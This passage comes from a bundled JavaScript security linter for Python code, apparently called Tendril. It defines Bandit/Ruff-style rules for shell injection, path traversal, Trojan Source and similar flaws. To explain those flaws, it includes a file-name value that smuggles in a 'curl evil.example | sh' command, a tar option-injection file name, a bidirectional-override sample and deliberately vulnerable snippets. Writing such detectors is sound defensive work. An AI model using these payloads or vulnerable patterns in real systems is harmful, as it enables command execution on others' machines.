    notReported: ['Calls that pass `ssl_version=` (a broken version there is `ssl-insecure-version`).'],
});


/***/ }),

/***/ 2756:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.startProcessWithNoShell = void 0;
/** Bandit B606 / Ruff S606: a function that starts a process without a shell (`os.exec*`, `os.spawn*`, `os.startfile`). */
const common_1 = __nccwpck_require__(8925);
const apis_1 = __nccwpck_require__(1813);
exports.startProcessWithNoShell = (0, common_1.callRule)({
    id: 'start-process-with-no-shell',
    name: 'StartProcessWithNoShell',
    bandit: 'B606',
    ruff: 'S606',
    severity: 'LOW',
    confidence: 'MEDIUM',
    category: 'injection',
    cwe: [78],
    functions: apis_1.NO_SHELL_FUNCTIONS,
    message: (call) => `${(0, common_1.callName)(call)} starts a process: check that the program and arguments cannot come from outside input`,
    short: 'process started without a shell (os.exec*, os.spawn*, os.startfile)',
    full: 'os.exec*, os.spawn* or os.startfile start a program directly. There is no shell, but the program and arguments deserve review if any come from outside the program.',
    title: 'A process started without a shell',
    why: 'These functions run the program they are given. If its path or arguments come from outside input, that input chooses what runs; `os.startfile` opens any file with its associated application.',
    example: 'import os\n\nos.execvp(program, [program, arg])',
    fix: 'Use fixed program paths and validated arguments; prefer `subprocess.run([...])`. Dismiss once reviewed.',
    fixed: 'import subprocess\n\nsubprocess.run([program, arg], check=True)',
    notReported: ['Functions that use a shell (`start-process-with-shell`) and `subprocess` functions (`subprocess-without-shell`).'],
});


/***/ }),

/***/ 4251:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.startProcessWithPartialPath = void 0;
/** Bandit B607 / Ruff S607: a process started with a literal program name that is not an absolute path. */
const arguments_1 = __nccwpck_require__(9950);
const literals_1 = __nccwpck_require__(8436);
const common_1 = __nccwpck_require__(8925);
const apis_1 = __nccwpck_require__(1813);
/** True when a literal program name is not an absolute path (`/bin/ls`, `C:\\...`, `\\\\server\\...`). */
function isPartialPath(program) {
    return !(program.startsWith('/') || program.startsWith('\\') || /^[A-Za-z]:[\\/]/.test(program));
}
exports.startProcessWithPartialPath = (0, common_1.callRule)({
    id: 'start-process-with-partial-path',
    name: 'StartProcessWithPartialPath',
    bandit: 'B607',
    ruff: 'S607',
    severity: 'LOW',
    confidence: 'HIGH',
    category: 'injection',
    cwe: [78],
    functions: [...apis_1.SUBPROCESS_FUNCTIONS, ...apis_1.SHELL_FUNCTIONS, ...apis_1.NO_SHELL_FUNCTIONS],
    check: (call) => {
        const command = (0, arguments_1.argumentAt)(call.node, 0, 'args');
        if (!command)
            return false;
        const expr = (0, literals_1.unparenthesize)(command);
        const first = expr.type === 'list' || expr.type === 'tuple' ? expr.namedChildren.find((c) => c && c.type !== 'comment') : expr;
        if (!first)
            return false;
        const value = (0, literals_1.stringLiteralValue)(first);
        return value !== undefined && value.trim() !== '' && isPartialPath(value.trim()) ? command : false;
    },
    message: (call) => `${(0, common_1.callName)(call)} starts a program by a partial path, found through PATH: whoever controls PATH chooses what runs`,
    short: 'process started with a program name that is not an absolute path',
    full: "A process is started with a literal program name that is not an absolute path, so the program is looked up through PATH; a writable directory early in PATH lets someone else's program run instead.",
    title: 'A process started with a partial path',
    why: 'A bare program name (`"git"`) is searched in the directories of `PATH`. If an attacker can add or write a directory that comes first there, their program runs instead of the intended one, with the program\'s privileges.',
    example: 'import subprocess\n\nsubprocess.run(["git", "status"])',
    fix: 'Use an absolute path (`/usr/bin/git`), or resolve it once with `shutil.which()` under a controlled `PATH`.',
    fixed: 'import subprocess\n\nsubprocess.run(["/usr/bin/git", "status"])',
    notReported: ['Programs given by a variable or built at run time.', 'Absolute paths (`/`, `\\\\`, or a drive letter).'],
});


/***/ }),

/***/ 3670:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.startProcessWithShellLiteral = void 0;
/**
 * Bandit B605 / Ruff S605, LOW: a function that always uses a shell given a literal command. The
 * same call with a command built at run time is `start-process-with-shell` (HIGH).
 */
const arguments_1 = __nccwpck_require__(9950);
const common_1 = __nccwpck_require__(8925);
const apis_1 = __nccwpck_require__(1813);
const commands_1 = __nccwpck_require__(2962);
exports.startProcessWithShellLiteral = (0, common_1.callRule)({
    id: 'start-process-with-shell-literal',
    name: 'StartProcessWithShellLiteral',
    bandit: 'B605',
    ruff: 'S605',
    severity: 'LOW',
    confidence: 'HIGH',
    category: 'injection',
    cwe: [78],
    functions: apis_1.SHELL_FUNCTIONS,
    check: (call) => {
        const command = (0, arguments_1.argumentAt)(call.node, 0);
        return command !== undefined && (0, commands_1.isLiteralCommand)(command);
    },
    message: (call) => `${(0, common_1.callName)(call)} runs a literal command through a shell: safe as written, but not if the command gains a variable part`,
    short: 'a function that always uses a shell runs a literal command',
    full: 'os.system, os.popen, subprocess.getoutput and similar run their command through a shell. Here the command is a fixed literal, safe today but a shell injection as soon as it gains a variable part.',
    title: 'A literal command run through a shell',
    why: 'These functions pass their string to `/bin/sh -c` (or `cmd.exe`). The shell interprets spaces, quotes, `;`, `|`, `$(...)` and wildcards in everything the string contains, so values pasted into it become shell syntax.',
    example: 'import os\n\nos.system("make clean")',
    fix: 'Use `subprocess.run([...])` with an argument list and no shell. If a shell is needed, quote every variable part with `shlex.quote()`.',
    fixed: 'import subprocess\n\nsubprocess.run(["make", "clean"])',
    notReported: ['Calls whose command is not the first positional argument (`os.popen(cmd=...)`, `*args`), as in Ruff.'],
    note: '## Why two rules\n\nBandit grades B605 high for a command built at run time and low for a literal one. Tendril reports the two as `start-process-with-shell` (high) and `start-process-with-shell-literal` (low); both answer to `B605` and `S605`.',
});


/***/ }),

/***/ 740:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.startProcessWithShell = void 0;
/**
 * Bandit B605 / Ruff S605, HIGH: a function that always uses a shell (`os.system`, `os.popen`,
 * `subprocess.getoutput`, ...) given a command built at run time. The same call with a literal
 * command is `start-process-with-shell-literal` (LOW), as Bandit grades the two.
 */
const arguments_1 = __nccwpck_require__(9950);
const common_1 = __nccwpck_require__(8925);
const apis_1 = __nccwpck_require__(1813);
const commands_1 = __nccwpck_require__(2962);
exports.startProcessWithShell = (0, common_1.callRule)({
    id: 'start-process-with-shell',
    name: 'StartProcessWithShell',
    bandit: 'B605',
    ruff: 'S605',
    severity: 'HIGH',
    confidence: 'HIGH',
    category: 'injection',
    cwe: [78],
    functions: apis_1.SHELL_FUNCTIONS,
    check: (call) => {
        const command = (0, arguments_1.argumentAt)(call.node, 0);
        return command !== undefined && !(0, commands_1.isLiteralCommand)(command);
    },
    message: (call) => `${(0, common_1.callName)(call)} runs a command built at run time through a shell: any part from outside the program can inject shell commands`,
    short: 'a function that always uses a shell runs a command built at run time',
    full: 'os.system, os.popen, subprocess.getoutput and similar run their command through a shell, and here the command is built at run time: any part of it from outside the program can inject shell commands.',
    title: 'A command built at run time run through a shell',
    why: 'These functions pass their string to `/bin/sh -c` (or `cmd.exe`). The shell interprets spaces, quotes, `;`, `|`, `$(...)` and wildcards in everything the string contains, so values pasted into it become shell syntax.',
    example: 'import os\n\nos.system("rm -rf " + path)',
    fix: 'Use `subprocess.run([...])` with an argument list and no shell. If a shell is needed, quote every variable part with `shlex.quote()`.',
    fixed: 'import subprocess\n\nsubprocess.run(["rm", "-rf", "--", path])',
    notReported: ['Calls whose command is not the first positional argument (`os.popen(cmd=...)`, `*args`), as in Ruff.'],
    note: '## Why two rules\n\nBandit grades B605 high for a command built at run time and low for a literal one. Tendril reports the two as `start-process-with-shell` (high) and `start-process-with-shell-literal` (low); both answer to `B605` and `S605`.',
});


/***/ }),

/***/ 3694:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.literalStrings = literalStrings;
const literals_1 = __nccwpck_require__(8436);
/**
 * A visitor that calls `check` with the value of every whole string literal: a plain string, or
 * an implicit concatenation as one (its parts are not checked again). The parts are recognised
 * from the concatenation, which the walk visits first, instead of asking each string for its
 * parent: `node.parent` costs the node's depth, which is quadratic on long chains.
 *
 * `needles`: every value `check` acts on contains one of them. A single string whose source has no
 * backslash has the text between its quotes as its value (an f-string's `{{` aside), so when that
 * source contains no needle either, the value is not computed.
 */
function literalStrings(context, needles, check) {
    const parts = new Set();
    return {
        concatenated_string(node) {
            for (const child of node.namedChildren)
                if (child)
                    parts.add(child.id);
            const value = (0, literals_1.stringLiteralValue)(node);
            if (value !== undefined)
                check(node, value);
        },
        string(node) {
            if (parts.has(node.id))
                return;
            const text = context.textOf(node);
            if (!text.includes('\\') && !needles.some((needle) => text.includes(needle)))
                return;
            const value = (0, literals_1.stringLiteralValue)(node);
            if (value !== undefined)
                check(node, value);
        },
    };
}


/***/ }),

/***/ 3147:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.subprocessShellTrueLiteral = void 0;
/**
 * Bandit B602 / Ruff S602, LOW: a `subprocess` function run with `shell=True` and a literal
 * command (commands.ts says what is literal). The same call with a command built at run time is
 * `subprocess-shell-true`, whose file gives the semantics both rules share.
 */
const calls_1 = __nccwpck_require__(4463);
const common_1 = __nccwpck_require__(8925);
const commands_1 = __nccwpck_require__(2962);
/** B602, LOW: `shell=True` with a literal command. */
exports.subprocessShellTrueLiteral = (0, common_1.securityRule)({
    id: 'subprocess-shell-true-literal',
    name: 'SubprocessShellTrueLiteral',
    bandit: 'B602',
    ruff: 'S602',
    severity: 'LOW',
    confidence: 'HIGH',
    category: 'injection',
    cwe: [78],
    short: 'subprocess call runs a literal command through a shell (shell=True)',
    full: 'A subprocess function (Popen, call, check_call, check_output, run) is called with shell=True ' +
        'and a fixed literal command. It is safe as written, but the shell stays in place if the command ' +
        'later gains a variable part, which would turn the call into a shell injection. Passing an argument ' +
        'list without a shell removes the risk.',
    title: 'A `subprocess` call runs a literal command through a shell',
    why: `\`shell=True\` makes Python hand the command to \`/bin/sh -c\` (\`cmd.exe /c\` on Windows) instead of
starting the program directly. Here the command is a fixed string, so nothing outside the program
can change it today, and the call is not exploitable as written.

It is still reported, with a low severity, because the shell stays in place when the code
changes: the day someone adds a file name, a branch name or a user's input to that string, every
space, quote, \`;\`, \`|\`, \`$(...)\` and \`*\` in the value is interpreted by the shell, and the
call becomes a shell injection (CWE-78) without anything else in the line changing. The shell
also costs an extra process and makes the command depend on the platform's shell.`,
    example: `import subprocess

subprocess.run("git status --porcelain", shell=True)`,
    fix: `Pass the command as a list of arguments and drop \`shell=True\` (\`shell=False\` is the default).
The program is then started directly: each list item reaches it as one argument, exactly as
given, and no shell ever interprets it.`,
    fixed: `import subprocess

subprocess.run(["git", "status", "--porcelain"])`,
    notReported: [
        '`shell=False`, `shell=None`, `shell=0`, an empty literal such as `shell=[]`, or no `shell` argument.',
        '`shell=` given by a variable or any other expression whose value is not a constant ' +
            '(`shell=use_shell`, `shell=os.name == "nt"`): the value is not known before run time.',
        'Calls whose function is not surely one of `subprocess.Popen`, `call`, `check_call`, ' +
            "`check_output` and `run`: the name is resolved through the file's imports (`import subprocess " +
            'as sp`, `from subprocess import Popen as P` are followed), and a call through a name that was ' +
            'rebound, or imported differently in different places, is left alone.',
        '`shell` or the command passed only inside `**kwargs`.',
        'Functions that always use a shell (`os.system`, `subprocess.getoutput`) and `shell=True` on ' +
            'functions outside `subprocess`: those are other checks (Bandit B605, B604).',
    ],
    note: `## Replacing shell features

Shell features have plain-Python replacements: a pipe is two \`subprocess\` calls (or
\`input=\`/\`stdout=\` arguments), a redirection is \`stdout=open(path, "wb")\`, a wildcard is
\`glob.glob()\`, \`~\` and \`$HOME\` are \`os.path.expanduser()\`/\`os.environ\`, \`cd dir &&\` is
\`cwd="dir"\`. Where a shell is really needed, quote every value that is not fixed with
\`shlex.quote()\` (POSIX shells only; it does not protect \`cmd.exe\`):

\`\`\`python
import shlex
import subprocess

subprocess.run(f"du -sh -- {shlex.quote(path)} | sort -h", shell=True, check=True)
\`\`\`

## Why two rules

Bandit grades this check by the command: high severity when it is built at run time, low when it
is a fixed literal. A code scanning rule carries a single severity, so Tendril reports the two
cases as \`subprocess-shell-true\` (built at run time, high) and \`subprocess-shell-true-literal\`
(literal, low). A command is literal when it is a string (or bytes) literal without
interpolation, a concatenation of such literals, or a list or tuple made only of them. Both answer to Bandit's \`B602\` and Ruff's \`S602\`, so selecting or ignoring
either code covers both.`,
    uses: [calls_1.calls],
    create(context) {
        return {
            end() {
                for (const { call, shell, command } of (0, commands_1.subprocessShellCalls)(context.analysis(calls_1.calls))) {
                    if (!(0, commands_1.isLiteralCommand)(command))
                        continue;
                    context.report(call.callee, `${(0, common_1.callName)(call)} runs a literal command through a shell (${(0, commands_1.shellText)(shell)}): safe as written, ` +
                        'but it becomes a shell injection if the command ever includes outside input; pass an argument list instead');
                }
            },
        };
    },
});


/***/ }),

/***/ 5565:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.subprocessShellTrue = void 0;
const calls_1 = __nccwpck_require__(4463);
const literals_1 = __nccwpck_require__(8436);
const common_1 = __nccwpck_require__(8925);
const commands_1 = __nccwpck_require__(2962);
/** A few words on how a run-time command is built, for the message. */
function describeCommand(command) {
    const expr = (0, literals_1.unparenthesize)(command);
    switch (expr.type) {
        case 'identifier':
            return `the variable \`${expr.text}\``;
        case 'attribute':
        case 'subscript':
            return expr.text.length <= 40 ? `\`${expr.text}\`` : 'a value read at run time';
        case 'string':
        case 'concatenated_string':
            return 'an f-string';
        case 'binary_operator': {
            const operator = expr.childForFieldName('operator')?.type;
            if (operator === '%')
                return '`%`-formatting';
            if (operator === '+')
                return 'a concatenation';
            return 'an expression';
        }
        case 'call': {
            const fn = expr.childForFieldName('function');
            const attribute = fn?.type === 'attribute' ? fn.childForFieldName('attribute')?.text : undefined;
            if (attribute === 'format')
                return '`str.format()`';
            if (attribute === 'join')
                return 'a `join()`';
            return 'the result of a call';
        }
        case 'list_splat':
            return '`*` unpacking';
        case 'list':
        case 'tuple':
            return `a ${expr.type} with non-literal items`;
        default:
            return 'an expression';
    }
}
/** B602, HIGH: `shell=True` with a command built at run time. */
exports.subprocessShellTrue = (0, common_1.securityRule)({
    id: 'subprocess-shell-true',
    name: 'SubprocessShellTrue',
    bandit: 'B602',
    ruff: 'S602',
    severity: 'HIGH',
    confidence: 'HIGH',
    category: 'injection',
    cwe: [78],
    short: 'subprocess call runs a command built at run time through a shell (shell=True)',
    full: 'A subprocess function (Popen, call, check_call, check_output, run) is called with shell=True ' +
        'and a command built at run time (a variable, an f-string, formatting or a concatenation). The ' +
        'shell interprets the whole command, so any part that comes from outside the program can inject ' +
        'commands of its own (OS command injection). Pass an argument list without a shell instead.',
    title: 'A `subprocess` call runs a command built at run time through a shell',
    why: `\`shell=True\` makes Python hand the command to \`/bin/sh -c\` (\`cmd.exe /c\` on Windows) instead of
starting the program directly. Here the command is not a fixed literal: it comes from a variable,
an f-string, formatting or a concatenation. Whatever ends up in it is parsed by the shell, so if
any part of it can come from outside the program (a request, a file name, a command-line
argument, an environment variable, a database row), characters such as \`;\`, \`|\`, \`&&\`, \`$(...)\`,
backquotes, quotes, spaces and \`*\` let that input run commands of its own choosing with the
program's privileges: OS command injection (CWE-78).`,
    example: `import subprocess

def archive(name):
    # name = "x; curl -s evil.example | sh" runs the attacker's script
    subprocess.run(f"tar czf {name}.tgz {name}", shell=True, check=True)`,
    fix: `Pass the command as a list of arguments and drop \`shell=True\` (\`shell=False\` is the default).
The program is then started directly: each list item reaches it as one argument, exactly as
given, and no shell ever interprets it.`,
    fixed: `import subprocess

def archive(name):
    subprocess.run(["tar", "czf", f"{name}.tgz", "--", name], check=True)`,
    notReported: [
        '`shell=False`, `shell=None`, `shell=0`, an empty literal such as `shell=[]`, or no `shell` argument.',
        '`shell=` given by a variable or any other expression whose value is not a constant ' +
            '(`shell=use_shell`, `shell=os.name == "nt"`): the value is not known before run time.',
        'Calls whose function is not surely one of `subprocess.Popen`, `call`, `check_call`, ' +
            "`check_output` and `run`: the name is resolved through the file's imports (`import subprocess " +
            'as sp`, `from subprocess import Popen as P` are followed), and a call through a name that was ' +
            'rebound, or imported differently in different places, is left alone.',
        '`shell` or the command passed only inside `**kwargs`.',
        'Functions that always use a shell (`os.system`, `subprocess.getoutput`) and `shell=True` on ' +
            'functions outside `subprocess`: those are other checks (Bandit B605, B604).',
    ],
    note: `## Replacing shell features

Shell features have plain-Python replacements: a pipe is two \`subprocess\` calls (or
\`input=\`/\`stdout=\` arguments), a redirection is \`stdout=open(path, "wb")\`, a wildcard is
\`glob.glob()\`, \`~\` and \`$HOME\` are \`os.path.expanduser()\`/\`os.environ\`, \`cd dir &&\` is
\`cwd="dir"\`. Where a shell is really needed, quote every value that is not fixed with
\`shlex.quote()\` (POSIX shells only; it does not protect \`cmd.exe\`):

\`\`\`python
import shlex
import subprocess

subprocess.run(f"du -sh -- {shlex.quote(path)} | sort -h", shell=True, check=True)
\`\`\`

## Why two rules

Bandit grades this check by the command: high severity when it is built at run time, low when it
is a fixed literal. A code scanning rule carries a single severity, so Tendril reports the two
cases as \`subprocess-shell-true\` (built at run time, high) and \`subprocess-shell-true-literal\`
(literal, low). A command is literal when it is a string (or bytes) literal without
interpolation, a concatenation of such literals, or a list or tuple made only of them. Both answer to Bandit's \`B602\` and Ruff's \`S602\`, so selecting or ignoring
either code covers both.`,
    uses: [calls_1.calls],
    create(context) {
        return {
            end() {
                for (const { call, shell, command } of (0, commands_1.subprocessShellCalls)(context.analysis(calls_1.calls))) {
                    if ((0, commands_1.isLiteralCommand)(command))
                        continue;
                    context.report(call.callee, `${(0, common_1.callName)(call)} runs a command built at run time (${describeCommand(command)}) through a shell ` +
                        `(${(0, commands_1.shellText)(shell)}): any part of it that comes from outside the program can inject shell commands`);
                }
            },
        };
    },
});


/***/ }),

/***/ 9797:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.subprocessWithoutShell = void 0;
const arguments_1 = __nccwpck_require__(9950);
const literals_1 = __nccwpck_require__(8436);
const common_1 = __nccwpck_require__(8925);
const apis_1 = __nccwpck_require__(1813);
const commands_1 = __nccwpck_require__(2962);
/** A literal command, or a list/tuple of literals and `sys.executable` (the running interpreter). */
function isTrustedCommand(command, model) {
    if ((0, commands_1.isLiteralCommand)(command))
        return true;
    const expr = (0, literals_1.unparenthesize)(command);
    if (expr.type !== 'list' && expr.type !== 'tuple')
        return false;
    return expr.namedChildren.every((item) => !item || item.type === 'comment' || (0, literals_1.stringLiteralValue)(item, { allowBytes: true }) !== undefined || model.resolveAssumed(item) === 'sys.executable');
}
exports.subprocessWithoutShell = (0, common_1.callRule)({
    id: 'subprocess-without-shell',
    name: 'SubprocessWithoutShell',
    bandit: 'B603',
    ruff: 'S603',
    severity: 'LOW',
    confidence: 'HIGH',
    category: 'injection',
    cwe: [78],
    functions: apis_1.SUBPROCESS_FUNCTIONS,
    check: (call, model) => {
        if ((0, commands_1.trueShell)(call))
            return false;
        const command = (0, arguments_1.argumentAt)(call.node, 0, 'args');
        return !command || !isTrustedCommand(command, model);
    },
    message: (call) => `${(0, common_1.callName)(call)} starts a process: check that what it runs cannot come from outside input`,
    short: 'subprocess call without a shell: check the program and arguments',
    full: 'A subprocess function is called without shell=True. No shell interprets the command, but the program and its arguments still deserve review if any come from outside the program.',
    title: 'A `subprocess` call (no shell)',
    why: 'Without a shell there is no shell injection, but a program name or an argument that comes from outside the program can still pick which program runs, or add options to it (`--output=/etc/...`).',
    example: 'import subprocess\n\nsubprocess.run([tool, user_arg])',
    fix: 'Use fixed program paths, validate arguments, and put `--` before arguments that must not be read as options. Dismiss the alert once reviewed.',
    fixed: 'import subprocess\n\nsubprocess.run(["/usr/bin/git", "status", "--porcelain"])',
    notReported: [
        'Calls with a true constant `shell=`: those are `subprocess-shell-true` (B602).',
        'Commands that are literals (a string, or a list or tuple of strings, where `sys.executable` also counts as a literal): nothing outside the program reaches them (Ruff does the same; Bandit reports them). A literal program name that is not an absolute path is `start-process-with-partial-path`.',
    ],
});


/***/ }),

/***/ 5120:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.tarfileUnsafeMembers = void 0;
/** Bandit B202 / Ruff S202: `extractall()` without a safe filter, in a file that imports tarfile. */
const calls_1 = __nccwpck_require__(4463);
const arguments_1 = __nccwpck_require__(9950);
const literals_1 = __nccwpck_require__(8436);
const common_1 = __nccwpck_require__(8925);
exports.tarfileUnsafeMembers = (0, common_1.securityRule)({
    id: 'tarfile-unsafe-members',
    name: 'TarfileUnsafeMembers',
    bandit: 'B202',
    ruff: 'S202',
    severity: 'HIGH',
    confidence: 'HIGH',
    category: 'files',
    cwe: [22],
    short: 'tarfile extractall() without a safe filter (path traversal)',
    full: 'An extractall() call without filter="data" (or "tar"). Archive members named ../x or /etc/x, or symlinks, can write files anywhere the process can.',
    title: '`tarfile` `extractall()` without a safe filter',
    why: 'Tar members can have absolute names, `..` components, or be links pointing outside the target directory. Extracting an untrusted archive without a filter writes where the archive says (path traversal).',
    example: 'import tarfile\n\nwith tarfile.open(upload) as tar:\n    tar.extractall("out")',
    fix: 'Pass `filter="data"` (Python 3.12+, backported to security releases), or check each member before extracting it.',
    fixed: 'import tarfile\n\nwith tarfile.open(upload) as tar:\n    tar.extractall("out", filter="data")',
    notReported: [
        'Files that do not import `tarfile` (as in Bandit and Ruff).',
        'Calls with `filter="data"` or `filter="tar"`.',
        'Bandit lowers the severity when `members=` is given by a function; this rule keeps the higher severity (high) for every case it reports.',
    ],
    uses: [calls_1.calls],
    create(context) {
        const imports = (0, common_1.importsModule)('tarfile');
        return {
            ...imports.visitor,
            end() {
                if (!imports.seen())
                    return;
                for (const call of context.analysis(calls_1.calls).calls) {
                    if (call.callee.type !== 'attribute' || call.callee.childForFieldName('attribute')?.text !== 'extractall')
                        continue;
                    const filter = (0, arguments_1.keywordValue)(call.node, 'filter');
                    const value = filter ? (0, literals_1.stringLiteralValue)(filter) : undefined;
                    if (value === 'data' || value === 'tar')
                        continue;
                    context.report(call.callee, '`extractall()` without `filter="data"` can write outside the target directory');
                }
            },
        };
    },
});


/***/ }),

/***/ 3780:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.trojanSource = void 0;
/** Bandit B613 (no Ruff code): a bidirectional control character in the source (Trojan Source). */
const common_1 = __nccwpck_require__(8925);
/** Bidirectional control characters used in Trojan Source attacks. */
const BIDI = /[\u202a-\u202e\u2066-\u2069\u200f]/g;
exports.trojanSource = (0, common_1.securityRule)({
    id: 'trojan-source',
    name: 'TrojanSource',
    bandit: 'B613',
    severity: 'HIGH',
    confidence: 'MEDIUM',
    category: 'injection',
    cwe: [838],
    short: 'bidirectional Unicode control character in source (Trojan Source)',
    full: 'The file contains a Unicode bidirectional control character (LRE, RLE, PDF, LRO, RLO, LRI, RLI, FSI, PDI or RLM). Such characters reorder how code is displayed, so the code a reviewer reads can differ from the code that runs.',
    title: 'A bidirectional control character (Trojan Source)',
    why: 'Bidirectional overrides make editors and review tools show text in a different order than the compiler reads it. A comment can appear to close before code that is in fact inside it, or a string can seem to end early (CVE-2021-42574).',
    example: '# the line looks like a harmless comparison, but an RLO character reverses part of it\nif access_level != "user\u202e \u2066# Check if admin\u2069 \u2066":',
    fix: 'Remove the character; if right-to-left text is needed in a string, write it with `\\u` escapes.',
    fixed: 'if access_level != "user":  # Check if admin',
    notReported: [
        'Characters written as escapes (`"\\u202e"`): they are not in the file\'s text.',
        'Other invisible characters (zero-width spaces, homoglyphs).',
    ],
    create(context) {
        return {
            end() {
                const text = context.text;
                for (const match of text.matchAll(BIDI)) {
                    const index = match.index;
                    const before = text.lastIndexOf('\n', index - 1);
                    const row = (text.slice(0, index).match(/\n/g) ?? []).length;
                    const column = index - before - 1;
                    const code = match[0].codePointAt(0).toString(16).toUpperCase().padStart(4, '0');
                    context.reportRange({ row, column }, { row, column: column + 1 }, `bidirectional control character U+${code}: the code shown may differ from the code that runs`);
                }
            },
        };
    },
});


/***/ }),

/***/ 5451:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.tryExceptContinue = void 0;
/** Bandit B112 / Ruff S112: an `except` that catches everything and only does `continue`. */
const broad_except_1 = __nccwpck_require__(2510);
const common_1 = __nccwpck_require__(8925);
exports.tryExceptContinue = (0, common_1.securityRule)({
    id: 'try-except-continue',
    name: 'TryExceptContinue',
    bandit: 'B112',
    ruff: 'S112',
    severity: 'LOW',
    confidence: 'HIGH',
    category: 'reliability',
    cwe: [703],
    short: '`except` that only `continue`es: errors are silently ignored',
    full: 'A bare except (or except Exception / BaseException) whose body is only `continue`. Every error, including unexpected ones, is swallowed without a trace, which hides failures and attacks alike.',
    title: '`try`/`except`/`continue`',
    why: 'An `except` clause that catches everything and only does `continue` makes failures invisible: a broken configuration, a denied permission or a tampered input produce no log and no error, and the program moves on to the next item in a state nobody checked.',
    example: 'for item in items:\n    try:\n        process(item)\n    except:\n        continue',
    fix: broad_except_1.BROAD_EXCEPT_FIX,
    fixed: 'for item in items:\n    try:\n        process(item)\n    except ValueError:\n        logger.exception("skipping an invalid item")\n        continue',
    notReported: [
        "Handlers for specific exception types (`except KeyError: continue`): only bare `except:`, `except Exception` and `except BaseException` (alone or in a tuple) are reported, as in Bandit's and Ruff's default settings.",
        'Handlers whose body does anything besides `continue` (a log call, a comment and `continue` counts as only `continue`).',
    ],
    ...(0, broad_except_1.broadExceptOnly)('continue'),
});


/***/ }),

/***/ 7191:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.tryExceptPass = void 0;
/** Bandit B110 / Ruff S110: an `except` that catches everything and only does `pass`. */
const broad_except_1 = __nccwpck_require__(2510);
const common_1 = __nccwpck_require__(8925);
exports.tryExceptPass = (0, common_1.securityRule)({
    id: 'try-except-pass',
    name: 'TryExceptPass',
    bandit: 'B110',
    ruff: 'S110',
    severity: 'LOW',
    confidence: 'HIGH',
    category: 'reliability',
    cwe: [703],
    short: '`except` that only `pass`es: errors are silently ignored',
    full: 'A bare except (or except Exception / BaseException) whose body is only `pass`. Every error, including unexpected ones, is swallowed without a trace, which hides failures and attacks alike.',
    title: '`try`/`except`/`pass`',
    why: 'An `except` clause that catches everything and only does `pass` makes failures invisible: a broken configuration, a denied permission or a tampered input produce no log and no error, and the program carries on in a state nobody checked.',
    example: 'try:\n    verify_signature(payload)\nexcept Exception:\n    pass',
    fix: broad_except_1.BROAD_EXCEPT_FIX,
    fixed: 'try:\n    verify_signature(payload)\nexcept InvalidSignature:\n    logger.warning("rejected a payload with a bad signature")\n    raise',
    notReported: [
        "Handlers for specific exception types (`except KeyError: pass`): only bare `except:`, `except Exception` and `except BaseException` (alone or in a tuple) are reported, as in Bandit's and Ruff's default settings.",
        'Handlers whose body does anything besides `pass` (a log call, a comment and `pass` counts as only `pass`).',
    ],
    ...(0, broad_except_1.broadExceptOnly)('pass'),
});


/***/ }),

/***/ 6997:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.unixCommandWildcardInjection = void 0;
/** Bandit B609 / Ruff S609: a wildcard in a shell command for chown/chmod/tar/rsync (option injection). */
const calls_1 = __nccwpck_require__(4463);
const arguments_1 = __nccwpck_require__(9950);
const literals_1 = __nccwpck_require__(8436);
const common_1 = __nccwpck_require__(8925);
const apis_1 = __nccwpck_require__(1813);
const commands_1 = __nccwpck_require__(2962);
const WILDCARD_COMMANDS = /^\s*(?:\S*\/)?(chown|chmod|tar|rsync)\b/;
function wildcardCommand(call) {
    const command = (0, arguments_1.argumentAt)(call.node, 0, 'args');
    if (!command)
        return false;
    const expr = (0, literals_1.unparenthesize)(command);
    let text;
    if (expr.type === 'list' || expr.type === 'tuple') {
        const items = expr.namedChildren.filter((c) => c && c.type !== 'comment').map((c) => (0, literals_1.stringLiteralValue)(c));
        if (items.some((i) => i === undefined))
            return false;
        text = items.join(' ');
    }
    else
        text = (0, literals_1.stringLiteralValue)(expr);
    return text !== undefined && text.includes('*') && WILDCARD_COMMANDS.test(text);
}
exports.unixCommandWildcardInjection = (0, common_1.securityRule)({
    id: 'unix-command-wildcard-injection',
    name: 'UnixCommandWildcardInjection',
    bandit: 'B609',
    ruff: 'S609',
    severity: 'HIGH',
    confidence: 'MEDIUM',
    category: 'injection',
    cwe: [155],
    short: 'wildcard in a shell command for chown, chmod, tar or rsync',
    full: 'A shell command runs chown, chmod, tar or rsync with a * wildcard. The shell expands the wildcard into file names, and a file named like an option (--checkpoint-action=..., --reference=...) becomes an option of the command.',
    title: 'Wildcard injection in a shell command',
    why: 'The shell expands `*` into the names of the files present. Anyone who can create a file in that directory can name it `--checkpoint-action=exec=sh evil.sh` (tar) or `--reference=mine` (chown/chmod), and the command reads it as an option.',
    example: 'import os\n\nos.system("tar cf backup.tar *")',
    fix: 'Put `--` before the file list (`tar cf backup.tar -- *`), or build the file list in Python (`glob.glob`) and pass it as arguments without a shell.',
    fixed: 'import glob\nimport subprocess\n\nsubprocess.run(["tar", "cf", "backup.tar", "--", *glob.glob("*")])',
    notReported: ['Commands built at run time (not literals).', 'Calls without a shell (a `subprocess` call without `shell=True`).'],
    uses: [calls_1.calls],
    create(context) {
